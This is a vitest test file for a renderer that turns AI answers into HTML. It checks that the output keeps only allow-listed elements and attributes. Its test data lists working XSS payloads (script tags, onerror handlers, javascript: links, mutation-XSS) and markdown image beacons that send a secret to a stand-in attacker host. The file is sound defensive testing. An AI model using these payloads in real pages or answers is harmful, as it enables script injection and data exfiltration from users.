import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, test, vi } from 'vitest';
import { htmlOf, parsedHtml } from './rendered.tsx';

vi.setConfig({ testTimeout: 120_000 });

const ELEMENTS =
  'a blockquote br button code del details div em h3 h4 h5 h6 hr li ol p pre span strong summary table tbody td th thead tr ul'.split(
    ' ',
  );
const ATTRIBUTES = 'aria-live class data-depth href lang rel start tabindex target title type'.split(' ');

/** What of an answer's HTML is not on the closed lists. */
function strangers(html: string): string[] {
  return [...parsedHtml(html).querySelectorAll('*')].flatMap((element) => [
    ...(ELEMENTS.includes(element.localName) ? [] : [element.localName]),
    ...element
      .getAttributeNames()
      .filter((name) => !ATTRIBUTES.includes(name))
      .map((name) => `${element.localName}[${name}]`),
    ...(element.localName === 'a' && !/^https?:\/\//.test(element.getAttribute('href') ?? '')
      ? ['a[href] not web']
      : []),
  ]);
}

const OWN = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1) "t")',
  '![x](http://attacker.test/p?q=SECRET)',
  '[![x](http://attacker.test/p)](https://ok.example)',
  '![r][]\n\n[r]: http://attacker.test/p',
  '<http://attacker.test/p>',
  '<iframe src="http://attacker.test"></iframe>\n\n<style>@import "//attacker.test"</style>',
  '- <input type=image src=//attacker.test>',
  '| <a href=javascript:alert(1)>x</a> |\n|---|\n| "><img src=x> |',
  '```html" onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '`<b onclick=alert(1)>`',
  '[x](https://bank.example@evil.example/)',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '[x]("onmouseover=alert(1)//)',
];

const material = process.env.PANGDA_MATERIAL ?? new URL('../../../../../shared', import.meta.url).pathname;
const payloads = `${material}/suites/payloadbox-xss/payloads-a.txt`;
const beacons = `${material}/suites/exfil-a.json`;

describe('a hostile answer', () => {
  test.each(OWN)('%j makes nothing but the closed list of elements and attributes', (answer) => {
    expect(strangers(htmlOf(answer))).toEqual([]);
    expect(strangers(htmlOf(answer, { done: false }))).toEqual([]);
  });

  test('the check itself sees a stranger', () => {
    expect(strangers('<p onclick="x"><img src="x"></p><a href="javascript:x">y</a>')).toEqual([
      'p[onclick]',
      'img',
      'img[src]',
      'a[href] not web',
    ]);
  });

  test('loads no image: its words stay', () => {
    const html = htmlOf('看![熊猫](http://attacker.test/p)吧');
    expect(html).toContain('看熊猫吧');
    expect(html).not.toContain('attacker');
  });

  test.skipIf(!existsSync(payloads))('every payload line, alone and in a sentence', () => {
    const lines = readFileSync(payloads, 'utf8').split('\n').filter(Boolean);
    const found = new Set<string>();
    for (let at = 0; at < lines.length; at += 200) {
      const html = lines.slice(at, at + 200).flatMap((line) => [htmlOf(line), htmlOf(`答 **案** ${line}`)]);
      for (const stranger of strangers(html.join('\n'))) found.add(stranger);
    }
    console.log(`hostile payloads: ${lines.length}, elements or attributes not on the lists: ${found.size}`);
    expect([...found]).toEqual([]);
  });

  test.skipIf(!existsSync(beacons))('every shape that could call out, with no address being a source', () => {
    const { cases } = JSON.parse(readFileSync(beacons, 'utf8')) as { cases: { markdown: string }[] };
    for (const { markdown } of cases) {
      const html = htmlOf(markdown, { isSource: () => false });
      expect(strangers(html)).toEqual([]);
      expect(parsedHtml(html).querySelector('a')).toBeNull();
    }
  });
});
